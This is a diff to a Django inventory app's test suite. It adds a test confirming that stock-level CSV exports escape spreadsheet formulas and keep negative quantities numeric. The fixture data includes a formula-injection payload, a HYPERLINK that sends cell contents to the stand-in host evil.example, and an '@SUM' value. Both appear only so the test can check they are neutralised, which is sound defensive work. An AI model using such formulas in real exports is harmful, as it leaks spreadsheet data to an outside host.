@@ -1,3 +1,5 @@
+import csv
+import io
 from decimal import Decimal
 
 import pytest
@@ -6,7 +8,7 @@ from django.contrib import admin
 from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
 
 from inventory import services
-from inventory.models import PurchaseOrder, StockCount, StockLevel, StockMove, Supplier
+from inventory.models import Product, PurchaseOrder, StockCount, StockLevel, StockMove, Supplier
 from inventory.services import PurchaseLineInput
 from inventory.tests.factories import ProductFactory
 
@@ -77,6 +79,27 @@ def test_stock_on_hand_and_valuation_export_as_csv(browser, stocked, location):
     assert on_hand["Content-Type"].startswith("text/csv")
     assert on_hand.content.decode().splitlines()[1] == f"main,{stocked.sku},{stocked.barcode},Lemonade,10.000,pc"
     assert valuation.content.decode().splitlines()[1] == f"main,{stocked.sku},Lemonade,10.000,4.0000,40.00"
+
+
+def test_stock_exports_neutralise_formulas_and_keep_negative_quantities_as_numbers(browser, location):
+    hostile = ProductFactory(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        sku="@SUM(1+1)",
+        cost=Decimal("1.50"),
+        stock_policy=Product.StockPolicy.ALLOW,
+    )
+    services.adjust_stock(product=hostile, location=location, delta="-2", reason="Miscount", user=None)
+    level = StockLevel.objects.get(product=hostile, location=location)
+
+    on_hand = action(browser, "stocklevel", "export_on_hand", [level.pk])
+    valuation = action(browser, "stocklevel", "export_valuation", [level.pk])
+
+    on_hand_row = next(csv.reader(io.StringIO(on_hand.content.decode().splitlines()[1])))
+    valuation_row = next(csv.reader(io.StringIO(valuation.content.decode().splitlines()[1])))
+    assert on_hand_row[1] == "'@SUM(1+1)"
+    assert on_hand_row[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert on_hand_row[4] == "-2.000"
+    assert valuation_row[1:6] == ["'@SUM(1+1)", on_hand_row[3], "-2.000", "1.5000", "-3.00"]
 
 
 def test_receiving_a_purchase_order_from_the_admin_books_the_stock(browser, stocked, location):
